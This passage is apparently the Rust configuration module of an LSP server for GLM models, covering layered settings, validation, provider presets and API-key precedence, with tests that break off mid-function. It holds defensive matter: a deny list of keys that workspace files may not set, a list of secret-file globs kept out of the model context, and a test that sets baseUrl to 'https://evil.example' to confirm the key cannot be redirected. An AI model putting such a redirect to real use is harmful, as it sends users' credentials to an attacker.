//! Configuration: built-in defaults, then config files, the environment, LSP
//! `initializationOptions` and `workspace/didChangeConfiguration` — later sources win.
//!
//! Every source is turned into a JSON object with the settings' camelCase keys and applied
//! key by key: a bad value is reported (naming the key and what is allowed) and skipped, so
//! the server keeps the value it had from the sources below it.

use std::path::{Path, PathBuf};

use serde_json::{Map, Value};

use crate::glm::provider::{GENERIC_KEY_VARIABLE, PROVIDER_KEY_VARIABLES};
pub use crate::glm::{HttpSettings, Provider};

pub const DEFAULT_BASE_URL: &str = "https://open.bigmodel.cn/api/paas/v4";
pub const DEFAULT_MODEL: &str = "glm-4.7";
pub const SECTION: &str = "glm-lsp";

/// Labels of the configuration sources, in increasing precedence.
pub const USER_FILE: &str = "user config file";
pub const WORKSPACE_FILE: &str = "workspace glm-lsp.toml";
pub const ENVIRONMENT: &str = "environment";
pub const INITIALIZATION_OPTIONS: &str = "initializationOptions";
pub const EDITOR_SETTINGS: &str = "editor settings";

/// The effective configuration. `provider`, `base_url`, `max_concurrency`, `model` and
/// `api_key` are resolved from what the user set (`explicit`) and the provider's preset.
#[derive(Clone, PartialEq)]
pub struct Config {
    pub api_key: Option<String>,
    /// Where the key came from: an environment variable or "the `apiKey` setting (…)".
    pub key_source: Option<String>,
    pub provider: Provider,
    pub base_url: String,
    pub model: String,
    pub thinking: bool,
    pub temperature: Option<f32>,
    pub top_p: Option<f32>,
    pub max_tokens: Option<u32>,
    pub max_concurrency: usize,
    pub timeout_secs: u64,
    /// USD per million tokens for models missing from the built-in price table.
    pub price: Option<Price>,
    pub completion: CompletionConfig,
    pub context: ContextConfig,
    pub actions: ActionsConfig,
    pub tests: TestsConfig,
    pub http: HttpSettings,
    /// The settings as given, before the preset fills in what is missing.
    explicit: Explicit,
}

/// What the sources set for the keys a provider preset has defaults for.
#[derive(Clone, PartialEq, Default)]
struct Explicit {
    provider: Option<Provider>,
    base_url: Option<String>,
    max_concurrency: Option<usize>,
    model: Option<String>,
    api_key: Option<String>,
    /// The source that set `api_key` last.
    api_key_source: Option<String>,
}

// The API key must never reach a log line, so `Debug` is written by hand.
impl std::fmt::Debug for Config {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Config")
            .field("api_key", &self.api_key.as_ref().map(|_| "***"))
            .field("key_source", &self.key_source)
            .field("provider", &self.provider)
            .field("base_url", &self.base_url)
            .field("model", &self.model)
            .field("thinking", &self.thinking)
            .field("temperature", &self.temperature)
            .field("top_p", &self.top_p)
            .field("max_tokens", &self.max_tokens)
            .field("max_concurrency", &self.max_concurrency)
            .field("timeout_secs", &self.timeout_secs)
            .field("price", &self.price)
            .field("completion", &self.completion)
            .field("context", &self.context)
            .field("actions", &self.actions)
            .field("tests", &self.tests)
            .field("http", &self.http)
            .finish()
    }
}

pub use crate::glm::Price;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Trigger {
    /// Prefetch after a pause in typing, so a suggestion is ready when the editor asks.
    Auto,
    /// Only when the user invokes completion explicitly (`triggerKind` 1).
    Manual,
}

/// How a suggestion is shown: ghost text, a completion-menu item, or both.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CompletionStyle {
    /// Ghost text when the editor supports `textDocument/inlineCompletion`, else menu items.
    Auto,
    Inline,
    List,
    Both,
}

impl CompletionStyle {
    pub const NAMES: [&'static str; 4] = ["auto", "inline", "list", "both"];

    fn from_name(name: &str) -> CompletionStyle {
        match name {
            "inline" => CompletionStyle::Inline,
            "list" => CompletionStyle::List,
            "both" => CompletionStyle::Both,
            _ => CompletionStyle::Auto,
        }
    }

    /// Whether `textDocument/completion` answers with suggestions.
    pub fn lists(self, client_has_inline: bool) -> bool {
        match self {
            CompletionStyle::Auto => !client_has_inline,
            CompletionStyle::List | CompletionStyle::Both => true,
            CompletionStyle::Inline => false,
        }
    }

    /// Whether `textDocument/inlineCompletion` answers with suggestions.
    pub fn inlines(self, client_has_inline: bool) -> bool {
        match self {
            CompletionStyle::Auto => client_has_inline,
            CompletionStyle::Inline | CompletionStyle::Both => true,
            CompletionStyle::List => false,
        }
    }
}

#[derive(Debug, Clone, PartialEq)]
pub struct CompletionConfig {
    pub enabled: bool,
    pub trigger: Trigger,
    pub style: CompletionStyle,
    pub debounce_ms: u64,
    /// The longest a completion request is held waiting for the model; `None` holds it
    /// until the answer is ready (or a keystroke, a cancel or `timeoutSecs` ends it).
    pub max_wait_ms: Option<u64>,
    pub thinking: bool,
    /// Room for the thinking as well as the answer.
    pub max_tokens: u32,
    /// Language ids allowed to get completions; `None` means all.
    pub languages: Option<Vec<String>>,
}

#[derive(Debug, Clone, PartialEq)]
pub struct ContextConfig {
    pub budget_tokens: usize,
    pub exclude: Vec<String>,
    /// Workspace files larger than this are not indexed.
    pub max_file_bytes: u64,
}

#[derive(Debug, Clone, PartialEq)]
pub struct ActionsConfig {
    /// Fill the edit in `codeAction/resolve` instead of running a command.
    pub resolve: bool,
    /// Ask editors that can preview to confirm AI edits first.
    pub confirm: bool,
    pub max_tokens: u32,
    pub custom: Vec<CustomAction>,
}

/// Unit-test generation. `verify` and `command` run programs, so only the user's own
/// configuration may set them (see [`USER_ONLY_KEYS`]).
#[derive(Debug, Clone, PartialEq)]
pub struct TestsConfig {
    /// Run the generated tests and keep only those that pass.
    pub verify: bool,
    pub timeout_secs: u64,
    /// How often failing tests go back to the model with the runner's output.
    pub repair_rounds: u32,
    /// Replaces the default test command; `{file}` and `{names}` are filled in.
    pub command: Option<String>,
}

#[derive(Debug, Clone, PartialEq)]
pub struct CustomAction {
    pub title: String,
    pub kind: String,
    /// The instruction, with `{code}` and `{language}` placeholders.
    pub prompt: String,
}

pub const DEFAULT_EXCLUDE: [&str; 7] = [".env", ".env.*", "*.pem", "*.key", "id_rsa*", "*.p12", "secrets.*"];

impl Default for Config {
    fn default() -> Config {
        Config {
            api_key: None,
            key_source: None,
            provider: Provider::Bigmodel,
            base_url: DEFAULT_BASE_URL.to_string(),
            model: DEFAULT_MODEL.to_string(),
            thinking: true,
            temperature: None,
            top_p: None,
            max_tokens: None,
            max_concurrency: 5,
            timeout_secs: 300,
            price: None,
            completion: CompletionConfig {
                enabled: true,
                trigger: Trigger::Auto,
                style: CompletionStyle::Auto,
                debounce_ms: 150,
                max_wait_ms: None,
                thinking: true,
                max_tokens: 8192,
                languages: None,
            },
            context: ContextConfig {
                budget_tokens: 6000,
                exclude: DEFAULT_EXCLUDE.iter().map(|glob| glob.to_string()).collect(),
                max_file_bytes: crate::context::DEFAULT_MAX_FILE_BYTES,
            },
            actions: ActionsConfig { resolve: false, confirm: false, max_tokens: 32768, custom: Vec::new() },
            tests: TestsConfig { verify: false, timeout_secs: 300, repair_rounds: 1, command: None },
            http: HttpSettings::default(),
            explicit: Explicit::default(),
        }
    }
}

impl Config {
    /// What the model client needs from the configuration.
    pub fn glm_settings(&self) -> crate::glm::GlmSettings {
        crate::glm::GlmSettings {
            api_key: self.api_key.clone().map(crate::glm::ApiKey::new),
            key_source: self.key_source.clone(),
            provider: self.provider,
            base_url: self.base_url.clone(),
            model: self.model.clone(),
            thinking: self.thinking,
            temperature: self.temperature,
            top_p: self.top_p,
            max_tokens: self.max_tokens,
            max_concurrency: self.max_concurrency,
            timeout: std::time::Duration::from_secs(self.timeout_secs),
            connect_timeout: std::time::Duration::from_secs(8),
            price: self.price,
            http: self.http.clone(),
        }
    }

    /// Fills `provider`, `base_url`, `max_concurrency`, `model` and `api_key` from what the
    /// sources set and the preset. `key_variables` are the key variables set in the
    /// environment, `(name, value)`; a key from them sits between the user config file and
    /// the LSP sources, like the rest of the environment.
    fn resolve_endpoint(&mut self, key_variables: &[(String, String)], errors: &mut Vec<ConfigError>) {
        let explicit = &self.explicit;
        let variable = |name: &str| {
            key_variables.iter().find(|(variable, value)| variable == name && !value.is_empty()).map(|(_, v)| v)
        };
        let key_above_environment = explicit
            .api_key_source
            .as_deref()
            .is_some_and(|source| matches!(source, INITIALIZATION_OPTIONS | EDITOR_SETTINGS));
        // No provider chosen: the base URL says which one it is, else the only key variable set.
        let mut provider = match (explicit.provider, &explicit.base_url) {
            (Some(provider), _) => provider,
            (None, Some(url)) => Provider::for_base_url(url),
            (None, None) if key_above_environment || variable(GENERIC_KEY_VARIABLE).is_some() => Provider::Bigmodel,
            (None, None) => PROVIDER_KEY_VARIABLES
                .iter()
                .find(|name| variable(name).is_some())
                .and_then(|name| Provider::for_key_variable(name))
                .unwrap_or_default(),
        };
        let base_url = match (&explicit.base_url, provider.base_url()) {
            (Some(url), _) => url.clone(),
            (None, Some(url)) => url.to_string(),
            (None, None) => {
                errors.push(ConfigError {
                    source: "configuration".into(),
                    key: "provider".into(),
                    message: "`custom` needs `baseUrl` (the endpoint's URL before /chat/completions);                               using the bigmodel preset"
                        .into(),
                });
                provider = Provider::Bigmodel;
                DEFAULT_BASE_URL.to_string()
            }
        };
        let from_variable = || {
            provider
                .key_variables()
                .into_iter()
                .find_map(|name| variable(name).map(|value| (value.clone(), name.to_string())))
        };
        let from_setting = || {
            explicit.api_key.clone().map(|key| {
                let source = explicit.api_key_source.as_deref().unwrap_or("configuration");
                (key, format!("the `apiKey` setting ({source})"))
            })
        };
        let key = if key_above_environment {
            from_setting().or_else(from_variable)
        } else {
            from_variable().or_else(from_setting)
        };
        self.max_concurrency = explicit.max_concurrency.unwrap_or(provider.max_concurrency());
        self.model = explicit.model.clone().unwrap_or_else(|| provider.default_model().to_string());
        self.provider = provider;
        self.base_url = base_url;
        (self.api_key, self.key_source) = match key {
            Some((key, source)) => (Some(key), Some(source)),
            None => (None, None),
        };
    }
}

/// A setting that could not be applied; the message names the key and what is allowed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ConfigError {
    pub source: String,
    pub key: String,
    pub message: String,
}

impl std::fmt::Display for ConfigError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "glm-lsp: setting `{}` from {}: {}", self.key, self.source, self.message)
    }
}

/// Where settings came from, in increasing precedence.
#[derive(Clone, Default)]
pub struct Sources {
    pub user_file: Option<(PathBuf, Value)>,
    pub workspace_file: Option<(PathBuf, Value)>,
    pub environment: Value,
    pub initialization_options: Value,
    pub client_settings: Value,
    /// The API key variables set in the environment, `(name, value)`: which one is used
    /// depends on the provider, so they are resolved last.
    pub key_variables: Vec<(String, String)>,
}

// Keys from the environment must never reach a log line either.
impl std::fmt::Debug for Sources {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Sources")
            .field("user_file", &self.user_file.as_ref().map(|(path, _)| path))
            .field("workspace_file", &self.workspace_file.as_ref().map(|(path, _)| path))
            .field("key_variables", &self.key_variables.iter().map(|(name, _)| name).collect::<Vec<_>>())
            .finish_non_exhaustive()
    }
}

/// Keys a file inside the workspace may not set: a cloned repository must not be able to
/// send the user's key to a server of its choosing, nor make the server run a command.
/// `provider` picks the server (and which key variable is read) just as `baseUrl` does, and
/// `http` could route the traffic through a proxy of the repository's choosing or make TLS
/// trust its certificate authority. Dotted keys are nested (`tests.command` is `[tests]
/// command = ...`).
pub const USER_ONLY_KEYS: [&str; 6] = ["apiKey", "baseUrl", "provider", "http", "tests.verify", "tests.command"];

/// The environment variables that hold API keys.
pub const KEY_VARIABLES: [&str; 5] =
    [GENERIC_KEY_VARIABLE, "ZHIPUAI_API_KEY", "ZAI_API_KEY", "RUNAPI_KEY", "COMETAPI_KEY"];

impl Sources {
    /// Reads the config files and the environment; the LSP sources are filled in later.
    pub fn load(workspace_root: Option<&Path>, env: &dyn Fn(&str) -> Option<String>) -> (Sources, Vec<ConfigError>) {
        let mut errors = Vec::new();
        let mut sources = Sources::default();
        let user_dir = env("XDG_CONFIG_HOME")
            .map(PathBuf::from)
            .or_else(|| env("HOME").map(|home| PathBuf::from(home).join(".config")));
        if let Some(path) = user_dir.map(|dir| dir.join("glm-lsp").join("config.toml")) {
            sources.user_file = read_toml(&path, &mut errors).map(|value| (path, value));
        }
        if let Some(path) = workspace_root.map(|root| root.join("glm-lsp.toml")) {
            if let Some(mut value) = read_toml(&path, &mut errors) {
                if let Some(object) = value.as_object_mut() {
                    for key in USER_ONLY_KEYS {
                        if remove_dotted(object, key) {
                            errors.push(ConfigError {
                                source: path.display().to_string(),
                                key: key.to_string(),
                                message: "a workspace file may not set this; put it in your user config \
                                          (~/.config/glm-lsp/config.toml), the environment or your editor settings"
                                    .to_string(),
                            });
                        }
                    }
                }
                sources.workspace_file = Some((path, value));
            }
        }
        let mut environment = Map::new();
        sources.key_variables = KEY_VARIABLES
            .iter()
            .filter_map(|name| {
                let value = env(name)?.trim().to_string();
                (!value.is_empty()).then(|| (name.to_string(), value))
            })
            .collect();
        if let Some(provider) = env("GLM_PROVIDER").filter(|value| !value.is_empty()) {
            environment.insert("provider".into(), Value::String(provider));
        }
        if let Some(url) = env("GLM_BASE_URL").filter(|value| !value.is_empty()) {
            environment.insert("baseUrl".into(), Value::String(url));
        }
        if let Some(model) = env("GLM_MODEL").filter(|value| !value.is_empty()) {
            environment.insert("model".into(), Value::String(model));
        }
        sources.environment = Value::Object(environment);
        (sources, errors)
    }

    /// Builds the effective configuration; bad values are reported and skipped.
    pub fn resolve(&self) -> (Config, Vec<ConfigError>) {
        let mut config = Config::default();
        let mut errors = Vec::new();
        let layers: [(&str, Option<&Value>); 5] = [
            (USER_FILE, self.user_file.as_ref().map(|(_, value)| value)),
            (WORKSPACE_FILE, self.workspace_file.as_ref().map(|(_, value)| value)),
            (ENVIRONMENT, Some(&self.environment)),
            (INITIALIZATION_OPTIONS, Some(&self.initialization_options)),
            (EDITOR_SETTINGS, Some(&self.client_settings)),
        ];
        for (source, layer) in layers {
            if let Some(layer) = layer {
                config.apply(source, section_of(layer), &mut errors);
            }
        }
        config.resolve_endpoint(&self.key_variables, &mut errors);
        (config, errors)
    }
}

/// Removes `a.b` from `{"a": {"b": ...}}` (or `a` from the top); whether it was there.
fn remove_dotted(object: &mut Map<String, Value>, key: &str) -> bool {
    match key.split_once('.') {
        None => object.remove(key).is_some(),
        Some((head, rest)) => {
            object.get_mut(head).and_then(Value::as_object_mut).is_some_and(|inner| remove_dotted(inner, rest))
        }
    }
}

/// Editors send either `{"glm-lsp": {...}}` or the section itself.
pub fn section_of(value: &Value) -> &Value {
    value.get(SECTION).unwrap_or(value)
}

fn read_toml(path: &Path, errors: &mut Vec<ConfigError>) -> Option<Value> {
    let text = std::fs::read_to_string(path).ok()?;
    match toml::from_str::<toml::Value>(&text) {
        Ok(value) => serde_json::to_value(value).ok(),
        Err(error) => {
            errors.push(ConfigError {
                source: path.display().to_string(),
                key: "(file)".into(),
                message: format!("not valid TOML: {}", error.message()),
            });
            None
        }
    }
}

impl Config {
    /// Applies one source's object onto `self`, key by key.
    pub fn apply(&mut self, source: &str, layer: &Value, errors: &mut Vec<ConfigError>) {
        let Some(object) = layer.as_object() else {
            if !layer.is_null() && !is_empty_lua_table(layer) {
                errors.push(ConfigError {
                    source: source.into(),
                    key: SECTION.into(),
                    message: "expected an object of settings".into(),
                });
            }
            return;
        };
        let mut setter = Setter { source, errors };
        for (key, value) in object {
            let explicit = &mut self.explicit;
            if value.is_null() {
                continue;
            }
            match key.as_str() {
                "apiKey" => setter.string(key, value, |v| {
                    explicit.api_key = Some(v).filter(|k| !k.is_empty());
                    explicit.api_key_source = Some(source.to_string());
                }),
                "provider" => {
                    let ids: Vec<&str> = Provider::ALL.iter().map(|provider| provider.id()).collect();
                    setter.choice(key, value, &ids, |v| explicit.provider = Provider::parse(v))
                }
                "baseUrl" => setter.url(key, value, |v| explicit.base_url = Some(v)),
                "model" => setter.nonempty(key, value, |v| explicit.model = Some(v)),
                "thinking" => setter.bool(key, value, |v| self.thinking = v),
                "temperature" => setter.float(key, value, 0.0, 2.0, |v| self.temperature = Some(v)),
                "topP" => setter.float(key, value, 0.0, 1.0, |v| self.top_p = Some(v)),
                "maxTokens" => setter.int(key, value, 1, 131_072, |v| self.max_tokens = Some(v as u32)),
                "maxConcurrency" => setter.int(key, value, 1, 64, |v| explicit.max_concurrency = Some(v as usize)),
                "timeoutSecs" => setter.int(key, value, 1, 3600, |v| self.timeout_secs = v),
                "price" => setter.price(key, value, |v| self.price = Some(v)),
                "completion" => self.apply_completion(&mut setter, value),
                "context" => self.apply_context(&mut setter, value),
                "actions" => self.apply_actions(&mut setter, value),
                "tests" => self.apply_tests(&mut setter, value),
                "http" => self.apply_http(&mut setter, value),
                _ => tracing::debug!(key, source, "ignoring unknown setting"),
            }
        }
        // Keep the resolved fields current for callers that apply one layer by hand; the
        // sources resolve again with the key variables.
        self.resolve_endpoint(&[], &mut Vec::new());
    }

    fn apply_http(&mut self, setter: &mut Setter, value: &Value) {
        let Some(object) = setter.object("http", value) else {
            return;
        };
        for (key, value) in object {
            let key_path = format!("http.{key}");
            match key.as_str() {
                "proxy" => setter.proxy(&key_path, value, |v| self.http.proxy = v),
                "caFile" => setter.ca_file(&key_path, value, |v| self.http.ca_file = v),
                _ => tracing::debug!(key = key_path, "ignoring unknown setting"),
            }
        }
    }

    fn apply_completion(&mut self, setter: &mut Setter, value: &Value) {
        let Some(object) = setter.object("completion", value) else {
            return;
        };
        let completion = &mut self.completion;
        for (key, value) in object {
            let key_path = format!("completion.{key}");
            match key.as_str() {
                "enabled" => setter.bool(&key_path, value, |v| completion.enabled = v),
                "trigger" => setter.choice(&key_path, value, &["auto", "manual"], |v| {
                    completion.trigger = if v == "auto" { Trigger::Auto } else { Trigger::Manual }
                }),
                "debounceMs" => setter.int(&key_path, value, 0, 10_000, |v| completion.debounce_ms = v),
                "style" => setter.choice(&key_path, value, &CompletionStyle::NAMES, |v| {
                    completion.style = CompletionStyle::from_name(v)
                }),
                "maxWaitMs" => setter.int(&key_path, value, 0, 3_600_000, |v| completion.max_wait_ms = Some(v)),
                "thinking" => setter.bool(&key_path, value, |v| completion.thinking = v),
                "maxTokens" => setter.int(&key_path, value, 16, 131_072, |v| completion.max_tokens = v as u32),
                "languages" => setter.strings(&key_path, value, |v| completion.languages = Some(v)),
                _ => tracing::debug!(key = key_path, "ignoring unknown setting"),
            }
        }
    }

    fn apply_context(&mut self, setter: &mut Setter, value: &Value) {
        let Some(object) = setter.object("context", value) else {
            return;
        };
        for (key, value) in object {
            let key_path = format!("context.{key}");
            match key.as_str() {
                "budgetTokens" => {
                    setter.int(&key_path, value, 256, 150_000, |v| self.context.budget_tokens = v as usize)
                }
                "exclude" => setter.globs(&key_path, value, |v| self.context.exclude = v),
                "maxFileBytes" => setter.int(&key_path, value, 1024, 64 << 20, |v| self.context.max_file_bytes = v),
                _ => tracing::debug!(key = key_path, "ignoring unknown setting"),
            }
        }
    }

    /// `actions` is either the list of custom actions or an object with `resolve`,
    /// `confirm`, `maxTokens` and `custom`.
    fn apply_actions(&mut self, setter: &mut Setter, value: &Value) {
        if value.is_array() {
            setter.custom_actions("actions", value, |v| self.actions.custom = v);
            return;
        }
        let Some(object) = setter.object("actions", value) else {
            return;
        };
        for (key, value) in object {
            let key_path = format!("actions.{key}");
            match key.as_str() {
                "resolve" => setter.bool(&key_path, value, |v| self.actions.resolve = v),
                "confirm" => setter.bool(&key_path, value, |v| self.actions.confirm = v),
                "maxTokens" => setter.int(&key_path, value, 256, 131_072, |v| self.actions.max_tokens = v as u32),
                "custom" => setter.custom_actions(&key_path, value, |v| self.actions.custom = v),
                _ => tracing::debug!(key = key_path, "ignoring unknown setting"),
            }
        }
    }
}

/// Neovim encodes an empty Lua table `{}` as `[]`: as settings, it means no settings.
fn is_empty_lua_table(value: &Value) -> bool {
    value.as_array().is_some_and(Vec::is_empty)
}

impl Config {
    fn apply_tests(&mut self, setter: &mut Setter, value: &Value) {
        let Some(object) = setter.object("tests", value) else {
            return;
        };
        for (key, value) in object {
            let key_path = format!("tests.{key}");
            match key.as_str() {
                "verify" => setter.bool(&key_path, value, |v| self.tests.verify = v),
                "timeoutSecs" => setter.int(&key_path, value, 1, 86_400, |v| self.tests.timeout_secs = v),
                "repairRounds" => setter.int(&key_path, value, 0, 5, |v| self.tests.repair_rounds = v as u32),
                "command" => {
                    setter.string(&key_path, value, |v| self.tests.command = Some(v).filter(|c| !c.is_empty()))
                }
                _ => tracing::debug!(key = key_path, "ignoring unknown setting"),
            }
        }
    }
}

/// Validates one value and either sets it or records why not.
struct Setter<'a> {
    source: &'a str,
    errors: &'a mut Vec<ConfigError>,
}

impl Setter<'_> {
    fn fail(&mut self, key: &str, message: impl Into<String>) {
        self.errors.push(ConfigError {
            source: self.source.to_string(),
            key: key.to_string(),
            message: message.into(),
        });
    }

    fn object<'v>(&mut self, key: &str, value: &'v Value) -> Option<&'v Map<String, Value>> {
        let object = value.as_object();
        if object.is_none() && !is_empty_lua_table(value) {
            self.fail(key, "expected an object");
        }
        object
    }

    fn string(&mut self, key: &str, value: &Value, set: impl FnOnce(String)) {
        match value.as_str() {
            Some(text) => set(text.trim().to_string()),
            None => self.fail(key, "expected a string"),
        }
    }

    fn nonempty(&mut self, key: &str, value: &Value, set: impl FnOnce(String)) {
        match value.as_str().map(str::trim) {
            Some(text) if !text.is_empty() => set(text.to_string()),
            _ => self.fail(key, "expected a non-empty string"),
        }
    }

    fn url(&mut self, key: &str, value: &Value, set: impl FnOnce(String)) {
        match value.as_str().map(str::trim) {
            Some(url) if reqwest::Url::parse(url).is_ok_and(|u| matches!(u.scheme(), "http" | "https")) => {
                set(url.trim_end_matches('/').to_string())
            }
            _ => self.fail(key, "expected an http(s) URL such as https://open.bigmodel.cn/api/paas/v4"),
        }
    }

    /// A proxy URL (`http://host:port`, with `user:password@` if needed); `""` means none.
    fn proxy(&mut self, key: &str, value: &Value, set: impl FnOnce(Option<String>)) {
        match value.as_str().map(str::trim) {
            Some("") => set(None),
            Some(url)
                if reqwest::Url::parse(url)
                    .is_ok_and(|u| matches!(u.scheme(), "http" | "https") && u.host().is_some()) =>
            {
                set(Some(url.to_string()))
            }
            _ => self.fail(key, "expected a proxy URL such as http://proxy.example.com:3128 (or \"\" for none)"),
        }
    }

    /// A readable PEM file of CA certificates, by absolute path (or `~/…`); `""` means none.
    fn ca_file(&mut self, key: &str, value: &Value, set: impl FnOnce(Option<PathBuf>)) {
        let Some(text) = value.as_str().map(str::trim) else {
            self.fail(key, "expected the path of a PEM file of CA certificates");
            return;
        };
        if text.is_empty() {
            set(None);
            return;
        }
        let path = match text.strip_prefix("~/") {
            Some(rest) => match std::env::var_os("HOME") {
                Some(home) => PathBuf::from(home).join(rest),
                None => PathBuf::from(text),
            },
            None => PathBuf::from(text),
        };
        if !path.is_absolute() {
            self.fail(key, format!("`{text}` is not an absolute path (or ~/…)"));
            return;
        }
        match std::fs::read_to_string(&path) {
            Ok(pem) if pem.contains("-----BEGIN CERTIFICATE-----") => set(Some(path)),
            Ok(_) => {
                self.fail(key, format!("{} holds no PEM certificate (-----BEGIN CERTIFICATE-----)", path.display()))
            }
            Err(error) => self.fail(key, format!("cannot read {}: {error}", path.display())),
        }
    }

    fn bool(&mut self, key: &str, value: &Value, set: impl FnOnce(bool)) {
        match value.as_bool() {
            Some(flag) => set(flag),
            None => self.fail(key, "expected true or false"),
        }
    }

    fn int(&mut self, key: &str, value: &Value, min: u64, max: u64, set: impl FnOnce(u64)) {
        match value.as_u64().or_else(|| value.as_f64().filter(|f| f.fract() == 0.0 && *f >= 0.0).map(|f| f as u64)) {
            Some(number) if (min..=max).contains(&number) => set(number),
            _ => self.fail(key, format!("expected a whole number from {min} to {max}")),
        }
    }

    fn float(&mut self, key: &str, value: &Value, min: f64, max: f64, set: impl FnOnce(f32)) {
        match value.as_f64() {
            Some(number) if (min..=max).contains(&number) => set(number as f32),
            _ => self.fail(key, format!("expected a number from {min} to {max}")),
        }
    }

    fn choice(&mut self, key: &str, value: &Value, allowed: &[&str], set: impl FnOnce(&str)) {
        match value.as_str().filter(|v| allowed.contains(v)) {
            Some(choice) => set(choice),
            None => self.fail(key, format!("expected one of {}", allowed.join(", "))),
        }
    }

    fn strings(&mut self, key: &str, value: &Value, set: impl FnOnce(Vec<String>)) {
        let strings: Option<Vec<String>> =
            value.as_array().and_then(|items| items.iter().map(|item| item.as_str().map(str::to_string)).collect());
        match strings {
            Some(strings) => set(strings),
            None => self.fail(key, "expected a list of strings"),
        }
    }

    fn globs(&mut self, key: &str, value: &Value, set: impl FnOnce(Vec<String>)) {
        let mut parsed = None;
        self.strings(key, value, |globs| parsed = Some(globs));
        let Some(globs) = parsed else { return };
        if let Some(bad) = globs.iter().find(|glob| globset::Glob::new(glob).is_err()) {
            self.fail(key, format!("`{bad}` is not a valid glob"));
            return;
        }
        set(globs)
    }

    fn price(&mut self, key: &str, value: &Value, set: impl FnOnce(Price)) {
        let field = |name: &str| value.get(name).and_then(Value::as_f64).filter(|v| *v >= 0.0);
        match (field("input"), field("output")) {
            (Some(input), Some(output)) => {
                set(Price { input, cached_input: field("cachedInput").unwrap_or(input), output })
            }
            _ => self.fail(
                key,
                "expected {\"input\": USD per million tokens, \"output\": ..., \"cachedInput\": ... (optional)}",
            ),
        }
    }

    fn custom_actions(&mut self, key: &str, value: &Value, set: impl FnOnce(Vec<CustomAction>)) {
        let Some(items) = value.as_array() else {
            self.fail(key, "expected a list of {\"title\", \"prompt\", \"kind\"} objects");
            return;
        };
        let mut actions = Vec::new();
        for (index, item) in items.iter().enumerate() {
            let text = |name: &str| item.get(name).and_then(Value::as_str).map(str::trim).filter(|v| !v.is_empty());
            match (text("title"), text("prompt")) {
                (Some(title), Some(prompt)) => actions.push(CustomAction {
                    title: title.to_string(),
                    kind: text("kind").unwrap_or("refactor.rewrite").to_string(),
                    prompt: prompt.to_string(),
                }),
                _ => {
                    self.fail(&format!("{key}[{index}]"), "each action needs a non-empty \"title\" and \"prompt\"");
                    return;
                }
            }
        }
        set(actions)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn later_sources_win_and_bad_values_are_skipped_with_a_named_error() {
        let sources = Sources {
            environment: json!({"apiKey": "env-key", "model": "glm-4.6"}),
            initialization_options: json!({"model": "glm-5-turbo", "maxConcurrency": 0}),
            client_settings: json!({"glm-lsp": {"completion": {"debounceMs": 50, "trigger": "sometimes"}}}),
            ..Sources::default()
        };
        let (config, errors) = sources.resolve();
        assert_eq!(config.api_key.as_deref(), Some("env-key"));
        assert_eq!(config.model, "glm-5-turbo");
        assert_eq!(config.max_concurrency, 5);
        assert_eq!(config.completion.debounce_ms, 50);
        assert_eq!(config.completion.trigger, Trigger::Auto);
        let keys: Vec<&str> = errors.iter().map(|e| e.key.as_str()).collect();
        assert_eq!(keys, ["maxConcurrency", "completion.trigger"]);
        assert!(errors[0].to_string().contains("from 1 to 64"));
    }

    #[test]
    fn workspace_file_cannot_redirect_the_key() {
        let root = std::env::temp_dir().join(format!("glm-lsp-config-{}", std::process::id()));
        std::fs::create_dir_all(&root).unwrap();
        std::fs::write(root.join("glm-lsp.toml"), "baseUrl = \"https://evil.example\"\nmodel = \"glm-4.6\"\n").unwrap();
        let (sources, errors) = Sources::load(Some(&root), &|_| None);
        let (config, _) = sources.resolve();
        assert_eq!(config.base_url, DEFAULT_BASE_URL);
        assert_eq!(config.model, "glm-4.6");
        assert_eq!(errors.len(), 1);
        std::fs::remove_dir_all(&root).unwrap();
    }

    fn variables(pairs: &[(&str, &str)]) -> Vec<(String, String)> {
        pairs.iter().map(|(name, value)| (name.to_string(), value.to_string())).collect()
    }

    #[test]
    fn each_preset_sets_url_concurrency_and_key_variable() {
        let all_keys = variables(&[
            ("ZHIPUAI_API_KEY", "key-zhipu"),
            ("ZAI_API_KEY", "key-zai"),
            ("RUNAPI_KEY", "key-runapi"),
            ("COMETAPI_KEY", "key-comet"),
        ]);
        let expected = [
            ("bigmodel", "https://open.bigmodel.cn/api/paas/v4", 5, "ZHIPUAI_API_KEY", "key-zhipu"),
            ("bigmodel-coding", "https://open.bigmodel.cn/api/coding/paas/v4", 1, "ZHIPUAI_API_KEY", "key-zhipu"),
            ("zai", "https://api.z.ai/api/paas/v4", 5, "ZAI_API_KEY", "key-zai"),
            ("zai-coding", "https://api.z.ai/api/coding/paas/v4", 1, "ZAI_API_KEY", "key-zai"),
            ("runapi", "https://runapi.ai/v1", 5, "RUNAPI_KEY", "key-runapi"),
            ("cometapi", "https://api.cometapi.com/v1", 5, "COMETAPI_KEY", "key-comet"),
        ];
        for (id, url, concurrency, variable, key) in expected {
            let sources = Sources {
                client_settings: json!({ "provider": id }),
                key_variables: all_keys.clone(),
                ..Sources::default()
            };
            let (config, errors) = sources.resolve();
            assert!(errors.is_empty(), "{id}: {errors:?}");
            assert_eq!(config.provider.id(), id);
            assert_eq!(config.base_url, url, "{id}");
            assert_eq!(config.max_concurrency, concurrency, "{id}");
            assert_eq!(config.api_key.as_deref(), Some(key), "{id}");
            assert_eq!(config.key_source.as_deref(), Some(variable), "{id}");
            assert_eq!(config.glm_settings().provider, config.provider);
        }
    }

    #[test]
    fn key_precedence() {
        let resolve = |sources: Sources| sources.resolve().0;
        // GLM_API_KEY, this program's own variable, comes before the provider's.
        let config = resolve(Sources {
            client_settings: json!({ "provider": "zai" }),
            key_variables: variables(&[("GLM_API_KEY", "generic"), ("ZAI_API_KEY", "zai")]),
            ..Sources::default()
        });
        assert_eq!((config.api_key.as_deref(), config.key_source.as_deref()), (Some("generic"), Some("GLM_API_KEY")));
        // Another provider's variable is never sent to this one.
        let config = resolve(Sources {
            client_settings: json!({ "provider": "zai" }),
            key_variables: variables(&[("ZHIPUAI_API_KEY", "zhipu")]),
            ..Sources::default()
        });
        assert_eq!(config.api_key, None);
        let config = resolve(Sources {
